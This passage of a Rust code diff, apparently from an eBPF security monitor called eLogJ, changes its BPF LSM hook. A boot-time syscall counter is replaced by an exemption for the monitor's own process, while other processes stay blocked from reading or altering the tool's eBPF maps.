+        event.elvls = elvls;
+        event.ereason = [reason[0], reason[1], wlentry];
+        event.esig = esig;
+        event.edn = [0u8 ; LDAP_DN_LEN];
+        event.esnip = [snip.0, copy_snippet_skb(ctx.skb.skb, snip.1 as u32, &mut event.esnippet)];
+
+        output_event(&ctx, 1, event);
     }
     
     if ctxdrop == 1 {
@@ -560,59 +1610,33 @@ pub fn bpflsm(ctx: LsmContext) -> i32 {
  * intervention is possibly conducted against the integrity of eLogJ.
 **/
 
-/** LSM counter
- * This counter is the current "bad solution" for booting the
- * LSM block code (restrictions). It is based on the number of
- * syscalls the LSM tracer detects right after booting (4 consecutive
- * ebpf map update elem syscalls by the same PID), it decrements each expected 
- * instrusction and boots right after. This way our ebpf code isn't
- * blocked, aka s!#t implementation of a sleep function.
+/** trf exemption
+ * bpflsm is attached once trf has filled its maps, trf itself is recognized
+ * by its tgid in its pid namespace (is_trf) rather than by counting boot time
+ * bpf() calls: no window is left open when the expected calls don't happen
+ * (ring buffer readers don't open/pin anything).
 **/
-const MAX_CALLS: u32 = 4;
-
-#[no_mangle]
-static mut LSM_COUNTER: u32 = MAX_CALLS;
-
 unsafe fn try_bpflsm(ctx: LsmContext) -> Result<i32, i32> {
     let cmd: c_int = ctx.arg(0);
-    let attr: *const bpf_attr = ctx.arg(1);
-    let size: c_uint = ctx.arg(2);
-
-    // Query file descriptor
-    let task: bpf_attr__bindgen_ty_13 = (*attr).task_fd_query;
-    let fd: u32 = task.fd;
-    let pid: u32 = task.pid;
-
-    if LSM_COUNTER > 0 && fd == 0 && cmd == bpf_cmd::BPF_MAP_UPDATE_ELEM as c_int {
-        let val = BOOTPID.get(&pid);
-        if val.is_some() {
-            LSM_COUNTER = LSM_COUNTER - 1;
-            info!(&ctx, "Control step {}/{} --> cmd: {}; fd: {}; pid: {}", MAX_CALLS-LSM_COUNTER, MAX_CALLS, cmd, fd, pid);
-        } else if LSM_COUNTER == MAX_CALLS {
-            BOOTPID.insert(&pid, &1, 0);
-            LSM_COUNTER = LSM_COUNTER - 1;
-            info!(&ctx, "Control step {}/{} --> cmd: {}; fd: {}; pid: {}", MAX_CALLS-LSM_COUNTER, MAX_CALLS, cmd, fd, pid);
-        }
-        if LSM_COUNTER == 0 {
-            info!(&ctx, "|===> LSM bpf syscall hook up\n");
-        }
-    } else {
-        // NOTE: restricting BPF code boot is unstable
-        // Restrict loading BPF prog/obj code; Restrict loading BPF network progs
-        // if cmd == bpf_cmd::BPF_BTF_LOAD as c_int || cmd == bpf_cmd::BPF_PROG_LOAD as c_int {
-        //     info!(&ctx, "Blocked --> cmd: {}; fd: {}; pid: {}", cmd, fd, pid);
-        //     return Err(-1);
-        // } else if cmd == bpf_cmd::BPF_LINK_CREATE as c_int {
-        //     info!(&ctx, "Blocked --> cmd: {}; fd: {}; pid: {}", cmd, fd, pid);
-        //     return Err(-1);
-        // }
-
-        // Restrict access to eBPF maps
-        if cmd == bpf_cmd::BPF_MAP_LOOKUP_ELEM as c_int || cmd == bpf_cmd::BPF_MAP_UPDATE_ELEM as c_int || 
-        cmd == bpf_cmd::BPF_MAP_DELETE_ELEM as c_int || cmd == bpf_cmd::BPF_OBJ_GET as c_int {
-            info!(&ctx, "Blocked --> cmd: {}; fd: {}; pid: {}", cmd, fd, pid);
-            return Err(-1);
-        }
+    count(STAT_LSM_CALLS);
+
+    // NOTE: restricting BPF code boot is unstable
+    // Restrict loading BPF prog/obj code; Restrict loading BPF network progs
+    // if cmd == bpf_cmd::BPF_BTF_LOAD as c_int || cmd == bpf_cmd::BPF_PROG_LOAD as c_int {
+    //     info!(&ctx, "Blocked --> cmd: {}; tgid: {}", cmd, tgid);
+    //     return Err(-1);
+    // } else if cmd == bpf_cmd::BPF_LINK_CREATE as c_int {
+    //     info!(&ctx, "Blocked --> cmd: {}; tgid: {}", cmd, tgid);
+    //     return Err(-1);
+    // }
+
+    // Restrict access to eBPF maps, trf itself still manages its maps
+    if (cmd == bpf_cmd::BPF_MAP_LOOKUP_ELEM as c_int || cmd == bpf_cmd::BPF_MAP_UPDATE_ELEM as c_int ||
+    cmd == bpf_cmd::BPF_MAP_DELETE_ELEM as c_int || cmd == bpf_cmd::BPF_OBJ_GET as c_int) && !is_trf() {
+        count(STAT_LSM_DENIED);
+        let tgid = (bpf_get_current_pid_tgid() >> 32) as u32;    // init pid namespace
+        info!(&ctx, "Blocked --> cmd: {}; tgid: {}", cmd, tgid);
+        return Err(-1);
     }
     Ok(0)
 }